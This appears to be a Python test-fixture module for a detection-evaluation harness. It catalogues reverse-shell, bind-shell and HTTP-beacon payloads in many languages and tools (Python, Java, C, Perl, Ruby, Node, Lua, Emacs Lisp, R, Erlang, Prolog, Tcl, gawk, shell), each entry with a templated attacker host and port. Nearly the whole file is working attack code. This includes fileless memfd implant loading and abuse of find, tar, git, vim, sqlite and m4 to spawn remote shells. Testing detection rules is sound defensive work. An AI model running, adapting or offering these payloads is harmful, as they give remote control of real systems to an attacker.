# SPDX-License-Identifier: Apache-2.0
"""Spellings by heart from lists that people pass around, in languages and tools that the other
tables do not have. Measured before anybody looked at what the rules make of them."""

from attacks import PROGRAM
from scenarios import AT_A_TERMINAL, Attack

PYTHON_PTY_FORK = """\
import os, pty, select, socket
s = socket.create_connection(("@H@", @P@))
pid, fd = pty.fork()
if not pid:
    os.execlp("bash", "bash", "--norc")
while True:
    r, _, _ = select.select([s, fd], [], [])
    try:
        if s in r:
            d = s.recv(4096)
            if not d:
                break
            os.write(fd, d)
        if fd in r:
            s.sendall(os.read(fd, 4096))
    except OSError:
        break
"""
PYTHON_THREADS = """\
import socket, subprocess, threading
s = socket.socket()
s.connect(("@H@", @P@))
p = subprocess.Popen(["sh"], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, stdin=subprocess.PIPE)
def up():
    while d := p.stdout.read1(4096):
        s.send(d)
threading.Thread(target=up, daemon=True).start()
try:
    while d := s.recv(4096):
        p.stdin.write(d)
        p.stdin.flush()
except OSError:
    pass
p.kill()
"""
JAVA_POLL = """\
import java.io.*; import java.net.*;
public class P {
    public static void main(String[] a) throws Exception {
        Process p = new ProcessBuilder("sh").redirectErrorStream(true).start();
        Socket s = new Socket("@H@", @P@);
        InputStream pi = p.getInputStream(), si = s.getInputStream();
        OutputStream po = p.getOutputStream(), so = s.getOutputStream();
        while (!s.isClosed()) {
            while (pi.available() > 0) so.write(pi.read());
            while (si.available() > 0) po.write(si.read());
            so.flush(); po.flush(); Thread.sleep(50);
            try { p.exitValue(); break; } catch (Exception e) {}
        }
        p.destroy(); s.close();
    }
}
"""
C_DUP = """\
#include <arpa/inet.h>
#include <unistd.h>
int main(void) {
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(@P@)};
    a.sin_addr.s_addr = inet_addr("@H@");
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (void*)&a, sizeof a)) return 1;
    for (int i = 0; i < 3; i++) dup2(s, i);
    return execl("/bin/sh", "sh", (char*)0);
}
"""
C_POPEN = """\
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(void) {
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(@P@)};
    a.sin_addr.s_addr = inet_addr("@H@");
    int s = socket(AF_INET, SOCK_STREAM, 0);
    char line[512], out[4096];
    if (connect(s, (void*)&a, sizeof a)) return 1;
    for (long n; (n = read(s, line, sizeof line - 1)) > 0;) {
        line[n] = 0;
        if (!strncmp(line, "exit", 4)) break;
        FILE* p = popen(strtok(line, "\\n"), "r");
        while ((n = (long)fread(out, 1, sizeof out, p)) > 0)
            if (write(s, out, (size_t)n) < 0) return 1;
        pclose(p);
    }
    return 0;
}
"""
PERL_MEMFD = """\
my $n = ""; my $fd = syscall(319, $n, 0); open(my $o, ">&=", $fd); binmode $o;
open(my $i, "<", "@C@/implant"); binmode $i; local $/; print $o <$i>; $o->flush;
exec {"/proc/$$/fd/$fd"} "dbus-daemon", "@H@", "@P@", "e";
"""
PERL_LIST = """\
use IO::Socket::INET; my $s = IO::Socket::INET->new("@H@:@P@");
while (<$s>) { chomp; my @w = split; last if $w[0] eq 'exit';
  open(my $p, '-|', @w); print $s <$p>; close $p; }
"""
RUBY_SPAWN = """\
require 'socket'; require 'open3'
s = TCPSocket.new('@H@', @P@)
while (l = s.gets)
  w = l.split
  break if w[0] == 'exit'
  s.write Open3.capture2e(*w)[0]
end
"""
PERL_BEACON = """\
use HTTP::Tiny; my $h = HTTP::Tiny->new;
while (1) { my $c = $h->get('http://@H@:@P@/task')->{content};
  if ($c) { chomp $c; my $o = `$c 2>&1`; $h->post('http://@H@:@P@/r', {content => $o}); }
  select undef, undef, undef, 0.4; }
"""
NODE_BEACON = """\
const http = require('http'), cp = require('child_process');
const poll = () => http.get('http://@H@:@P@/task', r => { let c = ''; r.on('data', d => c += d);
  r.on('end', () => { if (c.trim()) { const o = cp.spawnSync('sh', ['-c', c]).stdout;
    const q = http.request('http://@H@:@P@/r', {method: 'POST'}); q.on('error', () => {}); q.end(o); }
    setTimeout(poll, 400); }); }).on('error', () => setTimeout(poll, 400));
poll();
"""
PY_BEACON = "import urllib.request as u,subprocess as p,time\\n" \
    "while 1:\\n c=u.urlopen(\"http://@H@:@P@/task\").read().decode()\\n" \
    " if c: u.urlopen(\"http://@H@:@P@/r\",p.getoutput(c).encode())\\n time.sleep(.4)"
EMACS = """\
(let ((p (open-network-stream "s" nil "@H@" @P@)))
  (set-process-filter p (lambda (p l)
    (if (string-prefix-p "exit" l) (kill-emacs)
      (process-send-string p (shell-command-to-string l)))))
  (while (process-live-p p) (accept-process-output p 1)))
"""
R_LOOP = """\
s <- socketConnection('@H@', @P@, blocking = TRUE, open = 'r+')
repeat { l <- readLines(s, 1); if (!length(l) || l == 'exit') break
  writeLines(system(l, intern = TRUE), s) }
"""
ERL = "{ok,S}=gen_tcp:connect(\"@H@\",@P@,[list,{active,false},{packet,line}])," \
    "F=fun G()->case gen_tcp:recv(S,0) of {ok,\"exit\"++_}->halt();" \
    "{ok,L}->gen_tcp:send(S,os:cmd(L)),G();_->halt() end end,F()."
SWIPL = """\
:- use_module(library(socket)). :- use_module(library(process)). :- use_module(library(readutil)).
:- initialization(main, main).
main :- tcp_connect('@H@':@P@, S, []), loop(S).
loop(S) :- read_line_to_string(S, L), ( (L == end_of_file ; L == "exit") -> true ;
  process_create(path(sh), ['-c', L], [stdout(pipe(O))]), read_string(O, _, T), close(O),
  write(S, T), flush_output(S), loop(S) ).
"""
JIM = """\
set s [socket stream @H@:@P@]
while {[gets $s c] >= 0} { if {$c eq "exit"} break
  catch {exec sh -c $c} r; puts $s $r; flush $s }
"""
NEWLISP = """\
(set 's (net-connect "@H@" @P@))
(while (net-receive s c 1024 "\\n") (if (starts-with c "exit") (exit))
  (dolist (l (exec c)) (net-send s (append l "\\n"))))
(exit)
"""
GUILE = "(use-modules (ice-9 rdelim) (ice-9 popen) (ice-9 textual-ports))" \
    "(let ((s (socket PF_INET SOCK_STREAM 0)))" \
    "(connect s AF_INET (inet-pton AF_INET \"@H@\") @P@)" \
    "(let loop ((l (read-line s))) (if (not (or (eof-object? l) (string=? l \"exit\")))" \
    "(let ((p (open-input-pipe l))) (display (get-string-all p) s) (close-pipe p)" \
    "(loop (read-line s))))))"
LUA = "local s=require(\"socket\").tcp();s:connect(\"@H@\",@P@);while true do " \
    "local r=s:receive();if not r or r==\"exit\" then break end;local f=io.popen(r,\"r\");" \
    "s:send(f:read(\"*a\"));f:close() end"
NODE_LOOP = "const s=require(\"net\").connect(@P@,\"@H@\");s.on(\"data\",d=>{d=String(d);" \
    "if(d.startsWith(\"exit\"))process.exit();" \
    "s.write(require(\"child_process\").execSync(d))})"
NODE_PIPE = "sh=require(\"child_process\").spawn(\"/bin/sh\");" \
    "c=require(\"net\").connect(@P@,\"@H@\",()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);" \
    "sh.stderr.pipe(c)});sh.on(\"exit\",()=>process.exit())"
RUBY_NO_SH = "exit if fork;c=TCPSocket.new(\"@H@\",\"@P@\");loop{l=c.gets.chomp;exit! if l==\"exit\";" \
    "(IO.popen(l,?r){|io|c.print io.read}) rescue c.puts \"failed\"}"
GAWK_FILE = """\
BEGIN { s = "/inet/tcp/0/@H@/@P@"
  while ((s |& getline c) > 0) { if (c == "exit") break
    while ((c |& getline l) > 0) print l |& s
    close(c) } }
"""
YASH = "exec 3<>/dev/tcp/@H@/@P@; yash -i <&3 >&3 2>&3"

ATTACKS = [
    Attack("u_zsh_ztcp_cron", "A", "shell", "cron", "tcp",
           "zsh -c 'zmodload zsh/net/tcp && ztcp @H@ @P@ && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
           needs=("zsh",)),
    Attack("u_bash_fd5_web", "A", "shell", "web", "tcp",
           "bash -c 'exec 5<>/dev/tcp/@H@/@P@; sh 0<&5 1>&5 2>&5'"),
    Attack("u_ksh_tcp_ssh", "A", "shell", "ssh", "tcp",
           "ksh93 -c 'exec 3<>/dev/tcp/@H@/@P@; ksh93 <&3 >&3 2>&3'", needs=("ksh93",)),
    Attack("u_yash_tcp_cron", "A", "shell", "cron", "tcp", f"yash -c '{YASH}'", needs=("yash",)),
    Attack("u_rc_web", "A", "shell", "web", "tcp",
           "bash -c 'exec 3<>/dev/tcp/@H@/@P@; exec rc <&3 >&3 2>&3'", needs=("rc",),
           speaks=PROGRAM),
    Attack("u_tcsh_ssh", "A", "netcat", "ssh", "tcp", "nc.traditional @H@ @P@ -e /bin/tcsh",
           needs=("tcsh", "nc.traditional"), speaks=PROGRAM),
    Attack("u_ld_so_cron", "A", "binary", "cron", "tcp",
           "/lib64/ld-linux-x86-64.so.2 @C@/implant @H@ @P@ e", needs=("implant",)),
    Attack("u_perl_memfd_web", "A", "binary", "web", "tcp", "perl @D@/m.pl", needs=("implant",),
           files={"m.pl": PERL_MEMFD}),
    Attack("u_cc_then_run_ssh", "A", "binary", "ssh", "tcp", "cd @D@ && gcc -o u u.c && ./u",
           needs=("gcc",), files={"u.c": C_DUP}),
    Attack("u_tcc_run_cron", "A", "binary", "cron", "tcp", "tcc -run @D@/u.c", needs=("tcc",),
           files={"u.c": C_DUP}),
    Attack("u_find_exec_web", "A", "shell", "web", "tcp",
           "find /etc/passwd -exec bash -c 'bash -i >& /dev/tcp/@H@/@P@ 0>&1' \\;"),
    Attack("u_tar_checkpoint_cron", "A", "shell", "cron", "tcp",
           "tar cf /dev/null /etc/passwd --checkpoint=1 "
           "--checkpoint-action=exec='bash -c \"sh -i >& /dev/tcp/@H@/@P@ 0>&1\"'"),
    Attack("u_git_alias_ssh", "A", "shell", "ssh", "tcp",
           "git -c alias.x='!bash -c \"exec bash >& /dev/tcp/@H@/@P@ 0>&1\"' x", needs=("git",)),
    Attack("u_vim_bang_cron", "A", "editor", "cron", "tcp",
           "vim -es -u NONE -c 'silent !bash -c \"bash -i >& /dev/tcp/@H@/@P@ 0>&1\"' -c q",
           needs=("vim",)),
    Attack("u_sqlite_shell_web", "A", "database", "web", "tcp",
           "sqlite3 /dev/null '.shell bash -c \"bash -i >& /dev/tcp/@H@/@P@ 0>&1\"'",
           needs=("sqlite3",)),
    Attack("u_screen_cron", "A", "shell", "cron", "tcp",
           "screen -dmS x bash -c 'bash -i >& /dev/tcp/@H@/@P@ 0>&1'", needs=("screen",)),
    Attack("u_php_proc_open_web", "B", "php", "web", "tcp",
           "php -r '$s=fsockopen(\"@H@\",@P@);proc_close(proc_open(\"/bin/sh -i\","
           "[0=>$s,1=>$s,2=>$s],$p));'", needs=("php",)),
    Attack("u_python_pty_fork_cron", "B", "python", "cron", "tcp", "python3 @D@/p.py",
           files={"p.py": PYTHON_PTY_FORK}),
    Attack("u_socat_tls_pipes_cron", "B", "socat", "cron", "tls",
           "socat OPENSSL:@H@:@P@,verify=0 EXEC:sh,pipes", needs=("socat",)),
    Attack("u_ncat_c_ssh", "B", "netcat", "ssh", "tcp", "ncat @H@ @P@ -c 'bash -i 2>&1'",
           needs=("ncat",)),
    Attack("u_node_pipe_ssh", "C", "node", "ssh", "tcp", f"node -e '{NODE_PIPE}'",
           needs=("node",)),
    Attack("u_python_threads_web", "C", "python", "web", "tcp", "python3 @D@/t.py",
           files={"t.py": PYTHON_THREADS}),
    Attack("u_java_poll_cron", "C", "java", "cron", "tcp", "java @D@/P.java",
           needs=("java", "javac"), files={"P.java": JAVA_POLL}, patience=60),
    Attack("u_telnet_mknod_cron", "D", "netcat", "cron", "tcp",
           "mknod @D@/a p; telnet @H@ @P@ 0<@D@/a | /bin/bash 1>@D@/a 2>&1", needs=("telnet",)),
    Attack("u_telnet_two_ssh", "D", "netcat", "ssh", "two",
           "telnet @H@ @P@ | /bin/bash 2>&1 | telnet @H@ @Q@", needs=("telnet",)),
    Attack("u_curl_telnet_fifo_web", "D", "curl", "web", "tcp",
           "mkfifo @D@/f; curl -sNT @D@/f telnet://@H@:@P@ | sh >@D@/f 2>&1", needs=("curl",)),
    Attack("u_nc_fish_ssh", "D", "netcat", "ssh", "tcp",
           "mkfifo @D@/f; nc.openbsd @H@ @P@ <@D@/f | fish >@D@/f 2>&1",
           needs=("fish", "nc.openbsd"), speaks=PROGRAM),
    Attack("u_openssl_cat_web", "J", "openssl", "web", "tls",
           "mkfifo @D@/f; cat @D@/f | sh 2>&1 | openssl s_client -quiet -connect @H@:@P@ >@D@/f"),
    Attack("u_rlwrap_ssh", "J", "wrapper", "ssh", "tcp",
           "mkfifo @D@/f; rlwrap -a sh <@D@/f 2>&1 | nc.openbsd @H@ @P@ >@D@/f",
           needs=("rlwrap", "nc.openbsd")),
    Attack("u_perl_no_sh_ssh", "E", "perl", "ssh", "tcp",
           "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"@H@:@P@\");STDIN->fdopen($c,r);"
           "$~->fdopen($c,w);while(<>){last if /^exit/;system $_}'"),
    Attack("u_ruby_no_sh_web", "E", "ruby", "web", "tcp", f"ruby -rsocket -e '{RUBY_NO_SH}'",
           needs=("ruby",)),
    Attack("u_lua_popen_ssh", "E", "lua", "ssh", "tcp", f"lua5.4 -e '{LUA}'", needs=("lua5.4",)),
    Attack("u_lua_popen_file_cron", "E", "lua", "cron", "tcp", "lua5.4 @D@/l", needs=("lua5.4",),
           files={"l": LUA}),
    Attack("u_node_execsync_web", "E", "node", "web", "tcp", f"node -e '{NODE_LOOP}'",
           needs=("node",)),
    Attack("u_gawk_file_cron", "E", "gawk", "cron", "tcp", "gawk -f @D@/g", needs=("gawk",),
           files={"g": GAWK_FILE}),
    Attack("u_c_popen_service", "E", "binary", "service", "tcp",
           "sh -c 'cd @D@ && gcc -o u u.c && exec ./u'", needs=("gcc",), files={"u.c": C_POPEN}),
    Attack("u_emacs_ssh", "E", "editor", "ssh", "tcp", "emacs --batch -Q -l @D@/e.el",
           needs=("emacs",), files={"e.el": EMACS}, patience=60),
    Attack("u_rscript_cron", "E", "language", "cron", "tcp", "Rscript @D@/r.R",
           needs=("Rscript",), files={"r.R": R_LOOP}, patience=60),
    Attack("u_erl_web", "E", "language", "web", "tcp", f"erl -noshell -eval '{ERL}'",
           needs=("erl",), patience=60),
    Attack("u_swipl_cron", "E", "language", "cron", "tcp", "swipl @D@/s.pl", needs=("swipl",),
           files={"s.pl": SWIPL}, patience=60),
    Attack("u_jimsh_web", "E", "tcl", "web", "tcp", "jimsh @D@/j.tcl", needs=("jimsh",),
           files={"j.tcl": JIM}),
    Attack("u_newlisp_ssh", "E", "language", "ssh", "tcp", "newlisp @D@/n.lsp",
           needs=("newlisp",), files={"n.lsp": NEWLISP}),
    Attack("u_guile_inline_cron", "E", "language", "cron", "tcp", f"guile -c '{GUILE}'",
           needs=("guile",)),
    Attack("u_implant_perl_list_service", "F", "implant", "service", "tcp", "perl @D@/w.pl",
           files={"w.pl": PERL_LIST}, speaks=PROGRAM),
    Attack("u_implant_ruby_ssh", "F", "implant", "ssh", "tcp", "ruby @D@/w.rb &", needs=("ruby",),
           files={"w.rb": RUBY_SPAWN}, speaks=PROGRAM,
           unseen=AT_A_TERMINAL),
    Attack("u_relay_socat_loop_cron", "G", "relay", "cron", "tcp",
           "socat TCP-LISTEN:@Q@,bind=127.0.0.1,fork EXEC:sh & sleep 0.4; "
           "socat TCP:127.0.0.1:@Q@ TCP:@H@:@P@", needs=("socat",)),
    Attack("u_beacon_python_inline_cron", "H", "beacon", "cron", "http",
           f"python3 -c \"$(printf '%b' '{PY_BEACON}')\""),
    Attack("u_beacon_perl_web", "H", "beacon", "web", "http", "perl @D@/b.pl",
           files={"b.pl": PERL_BEACON}),
    Attack("u_beacon_node_cron", "H", "beacon", "cron", "http", "node @D@/b.js", needs=("node",),
           files={"b.js": NODE_BEACON}),
    Attack("u_beacon_node_service", "H", "beacon", "service", "http", "node @D@/b.js",
           needs=("node",), files={"b.js": NODE_BEACON}),
    Attack("u_beacon_curl_eval_web", "H", "beacon", "web", "http",
           "while :; do c=$(curl -s http://@H@:@P@/task); [ -n \"$c\" ] && "
           "curl -s -d \"$(eval \"$c\")\" http://@H@:@P@/r; sleep 0.4; done", needs=("curl",)),
    Attack("u_beacon_wget_file_service", "H", "beacon", "service", "http",
           "sh -c 'while sleep 0.4; do wget -qO @D@/t http://@H@:@P@/task; [ -s @D@/t ] || continue;"
           " sh @D@/t >@D@/o 2>&1; wget -qO/dev/null --post-file=@D@/o http://@H@:@P@/r; done'",
           needs=("wget",)),
    Attack("u_loop_ed_cron", "I", "editor", "cron", "tcp",
           "mkfifo @D@/f; nc.openbsd @H@ @P@ <@D@/f | sed -u 's/^/!/' | ed >@D@/f 2>&1",
           needs=("ed", "nc.openbsd")),
    Attack("u_loop_xargs_two_web", "I", "text", "web", "two",
           "nc.openbsd @H@ @P@ | xargs -I{} sh -c '{} 2>&1' | nc.openbsd @H@ @Q@",
           needs=("nc.openbsd",)),
    Attack("u_loop_m4_file_ssh", "I", "text", "ssh", "tcp",
           "mkfifo @D@/f; nc.openbsd @H@ @P@ <@D@/f | sed -u 's/.*/esyscmd(`&'\"'\"')/' | "
           "m4 >@D@/f 2>&1", needs=("m4", "nc.openbsd")),
    Attack("u_bind_nc_openbsd_cron", "D", "bind", "cron", "bind",
           "mkfifo @D@/f; nc.openbsd -l @V@ @P@ <@D@/f | sh >@D@/f 2>&1", needs=("nc.openbsd",)),
    Attack("u_bind_php_web", "B", "bind", "web", "bind",
           "php -r '$l=stream_socket_server(\"tcp://@V@:@P@\");$s=stream_socket_accept($l,60);"
           "proc_close(proc_open(\"sh\",[$s,$s,$s],$p));'", needs=("php",)),
    Attack("u_late_perl_cron", "L", "perl", "cron", "tcp",
           "perl -e 'sleep 65;use Socket;socket(S,2,1,6);connect(S,pack_sockaddr_in(@P@,"
           "inet_aton(\"@H@\")));sleep 20;open(STDIN,\"<&S\");open(STDOUT,\">&S\");"
           "open(STDERR,\">&S\");exec \"sh\"'", patience=260.0),
]
